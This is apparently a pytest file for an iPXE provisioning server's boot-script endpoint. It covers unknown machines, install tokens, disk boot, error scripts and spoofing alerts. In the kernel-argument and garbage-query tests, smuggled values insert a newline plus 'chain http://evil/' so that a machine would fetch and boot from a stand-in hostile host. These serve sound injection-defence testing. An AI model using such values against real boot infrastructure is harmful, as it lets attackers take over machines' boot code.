"""Stage two against the live server: unknown, install, disk, hold, error."""

from __future__ import annotations

import re
from pathlib import Path

import aiohttp
from sqlalchemy import select
from webenv import MAC1, MAC1B, MAC2, UUID1, Env, add_asset_set, add_cluster, add_machine, hexhyp, start_env

from provisioner.store.repository import Store
from provisioner.store.tables import ConfigTokenRow
from provisioner.store.tokens import hash_token


async def script(http: aiohttp.ClientSession, env: Env, **query: str) -> str:
    async with http.get(env.base + "/ipxe", params=query) as r:
        assert r.status == 200
        assert r.headers["Content-Type"].startswith("text/plain")
        text = await r.text()
    assert text.startswith("#!ipxe\n")
    return text


async def test_unknown_machine_is_recorded_and_exits(env: Env, http: aiohttp.ClientSession) -> None:
    text = await script(http, env, mac="52-54-00-aa-bb-cc", uuid=UUID1, arch="x86_64", platform="efi")
    assert "not in the inventory" in text
    assert text.rstrip().endswith("exit")
    found = await env.store.list_discovered()
    assert [(d.mac, d.uuid, d.source) for d in found] == [("52:54:00:aa:bb:cc", UUID1, "http")]
    assert "boot.unknown" in env.events.kinds()


async def test_install_script_issues_token_and_moves_to_netbooting(
    env: Env, http: aiohttp.ClientSession
) -> None:
    await add_asset_set(env)
    await add_cluster(env.store, kernelArgs=["net.ifnames=0"])
    await add_machine(
        env.store, "m1", [MAC1, MAC1B], uuid=UUID1, state="PoweringOn", spec={"kernelArgs": ["x.y=1"]}
    )
    await env.refresh()
    text = await script(http, env, mac=hexhyp(MAC1), uuid=UUID1, arch="x86_64", platform="pcbios")
    assert f"kernel {env.base}/assets/talos/kernel " in text
    # then the telemetry arguments ([telemetry] defaults: the [http] host, ports 4002/4003)
    assert (
        " net.ifnames=0 x.y=1 talos.events.sink=127.0.0.1:4002"
        " talos.logging.kernel=tcp://127.0.0.1:4003 talos.experimental.wipe=system talos.config=" in text
    )
    assert "initrd=" not in text
    token = re.search(r"config\?t=([^&\s]+)", text)
    assert token is not None
    machine = await env.store.get_machine("m1")
    assert machine is not None and machine.state == "Netbooting"
    async with env.store.session() as session:
        row = (await session.execute(select(ConfigTokenRow))).scalar_one()
    assert row.token_hash == hash_token(token.group(1))
    assert token.group(1) not in str(row.model_dump())
    assert row.issued_to == "127.0.0.1"


async def test_machine_found_by_any_nic_and_efi(env: Env, http: aiohttp.ClientSession) -> None:
    await add_asset_set(env)
    await add_cluster(env.store)
    await add_machine(env.store, "m1", [MAC1B], state="Registered", desired="provisioned")
    await env.refresh()
    # Booted from an unlisted NIC; the inventory knows the machine by its second NIC.
    text = await script(
        http,
        env,
        mac="52-54-00-ff-ff-ff",
        nics=f"52-54-00-ff-ff-ff,{hexhyp(MAC1B)}",
        arch="x86_64",
        platform="efi",
    )
    assert "initrd=initramfs.xz" in text
    assert "initrd --name initramfs.xz" in text
    assert (await env.store.list_discovered()) == []


async def test_installed_machine_boots_from_disk(env: Env, http: aiohttp.ClientSession) -> None:
    await add_cluster(env.store)
    await add_machine(env.store, "m1", [MAC1], state="Provisioned", installed=True)
    await add_machine(
        env.store, "m2", [MAC2], state="Provisioned", installed=True, spec={"bootFromDisk": "sanboot"}
    )
    await env.refresh()
    assert (await script(http, env, mac=hexhyp(MAC1))).endswith("\nexit\n")
    assert "sanboot --no-describe --drive 0x80" in await script(http, env, mac=hexhyp(MAC2))


async def test_provisioned_but_not_installed_does_not_boot_disk(
    env: Env, http: aiohttp.ClientSession
) -> None:
    await add_cluster(env.store)
    await add_machine(env.store, "m1", [MAC1], state="Provisioned", installed=False)
    await env.refresh()
    text = await script(http, env, mac=hexhyp(MAC1))
    assert "state-Provisioned" in text
    assert "sanboot" not in text


async def test_idle_machine_holds(env: Env, http: aiohttp.ClientSession) -> None:
    await add_cluster(env.store)
    await add_machine(env.store, "m1", [MAC1], state="Registered")
    await env.refresh()
    text = await script(http, env, mac=hexhyp(MAC1))
    assert "state-Registered" in text
    machine = await env.store.get_machine("m1")
    assert machine is not None and machine.state == "Registered"


async def test_missing_asset_set_is_an_error_script_and_event(env: Env, http: aiohttp.ClientSession) -> None:
    await add_cluster(env.store, asset_set=None)
    await add_machine(env.store, "m1", [MAC1], state="PoweringOn")
    await env.refresh()
    text = await script(http, env, mac=hexhyp(MAC1))
    assert "no-asset-set" in text
    assert text.endswith("exit 1\n")
    assert "boot.error" in env.events.kinds()


async def test_arch_mismatch_is_refused(env: Env, http: aiohttp.ClientSession) -> None:
    await add_asset_set(env, arch="arm64")
    await add_cluster(env.store)
    await add_machine(env.store, "m1", [MAC1], state="PoweringOn")
    await env.refresh()
    assert "asset-arch-mismatch" in await script(http, env, mac=hexhyp(MAC1), arch="x86_64")


async def test_bad_kernel_args_refused(env: Env, http: aiohttp.ClientSession) -> None:
    await add_asset_set(env)
    await add_cluster(env.store)
    await add_machine(
        env.store, "m1", [MAC1], state="PoweringOn", spec={"kernelArgs": ["a\nchain http://evil/"]}
    )
    await env.refresh()
    text = await script(http, env, mac=hexhyp(MAC1))
    assert "bad-kernel-args" in text
    assert "evil" not in text


async def test_garbage_query_never_fails(env: Env, http: aiohttp.ClientSession) -> None:
    for raw in (
        "mac=%ZZ&uuid=%",
        "mac=" + "a" * 5000,
        "nics=" + ",".join(["x"] * 500),
        "uuid=%00%0Achain",
        "serial=%0Achain%20http://evil/",
    ):
        async with http.get(env.base + "/ipxe?" + raw) as r:
            assert r.status in (200, 400, 414), raw
            if r.status == 200:
                assert "evil" not in await r.text()


async def test_full_mode_script_only_to_the_lease_holder(env_full: Env, http: aiohttp.ClientSession) -> None:
    env = env_full
    from webenv import add_lease

    await add_asset_set(env)
    await add_cluster(env.store)
    await add_machine(env.store, "m1", [MAC1], state="PoweringOn")
    await add_lease(env.store, "127.0.0.2", MAC1, "m1")
    await env.refresh()
    # Another host asks with m1's MAC: no token for it, an alert instead.
    text = await script(http, env, mac=hexhyp(MAC1))
    assert "not-lease-holder" in text
    assert "config?t=" not in text
    (alert,) = [e for e in env.events.events if e.kind == "boot.spoofing"]
    assert alert.severity.value == "alert"
    machine = await env.store.get_machine("m1")
    assert machine is not None and machine.state == "PoweringOn"
    connector = aiohttp.TCPConnector(local_addr=("127.0.0.2", 0))
    async with (
        aiohttp.ClientSession(connector=connector) as own,
        own.get(env.base + "/ipxe", params={"mac": hexhyp(MAC1)}) as r,
    ):
        assert "config?t=" in await r.text()


async def test_unknown_machine_boots_the_discovery_image_when_configured(
    sqlite_store: Store, state_dir: Path, http: aiohttp.ClientSession
) -> None:
    env = await start_env(sqlite_store, state_dir, dhcp={"unknown_machines": "discovery"})
    try:
        # no discovery asset set yet: recorded and sent back to the firmware
        text = await script(http, env, mac="52-54-00-aa-bb-01", arch="x86_64", platform="pcbios")
        assert text.rstrip().endswith("exit")
        await add_asset_set(env, "discovery", cmdline="console=ttyS0 inventory.report=1")
        text = await script(http, env, mac="52-54-00-aa-bb-02", arch="x86_64", platform="pcbios")
        assert f"kernel {env.base}/assets/discovery/kernel console=ttyS0 inventory.report=1\n" in text
        assert "talos.config" not in text
        assert text.rstrip().endswith("boot")
        found = {d.mac for d in await env.store.list_discovered()}
        assert found == {"52:54:00:aa:bb:01", "52:54:00:aa:bb:02"}
    finally:
        await env.server.stop()
